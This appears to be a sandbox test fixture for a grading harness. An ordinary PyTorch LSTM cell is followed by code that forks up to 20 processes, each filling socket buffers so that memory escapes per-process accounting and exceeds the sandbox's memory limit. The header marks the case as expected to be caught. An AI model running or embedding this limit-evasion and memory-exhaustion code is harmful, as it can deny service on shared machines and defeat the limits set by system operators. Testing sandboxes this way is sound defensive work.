# ---
# assignment: speech_commands
# expect: {lstm_cell: lost}
# tries: fills memory with what waits in sockets and pipes, which is in no process's account
# evidence: makes processes by hand
# ---
# %% lstm_cell
class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size
        self.x2h = nn.Linear(input_size, 4 * hidden_size, bias=bias)
        self.h2h = nn.Linear(hidden_size, 4 * hidden_size, bias=bias)

    def forward(self, input, hx=None):
        if hx is None:
            hx = (input.new_zeros(len(input), self.hidden_size),) * 2
        h, c = hx
        i, f, g, o = (self.x2h(input) + self.h2h(h)).chunk(4, 1)
        cy = torch.sigmoid(f) * h + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(cy), cy

# %% after lstm_cell
import os
import socket
import time

MORE = 2 << 30
waiting, kept = 0, []


def fill():
    """The bytes that this process's sockets hold."""
    held = 0
    try:
        while True:
            one, other = socket.socketpair()
            for end in (one, other):
                kept.append(end)
                end.setblocking(False)
                try:
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                except OSError:
                    pass
                try:
                    while True:
                        held += end.send(bytes(1 << 16))
                except OSError:
                    pass
    except OSError:
        return held


report, tell = os.pipe()
for _ in range(20):
    try:
        if os.fork() == 0:
            os.write(tell, b"%d\n" % fill())
            time.sleep(600)
    except OSError:
        break
while waiting < MORE:
    waiting += sum(map(int, os.read(report, 4096).split()))
    print(waiting >> 20, "MiB", flush=True)
print("FOUND more memory than the limit in sockets")
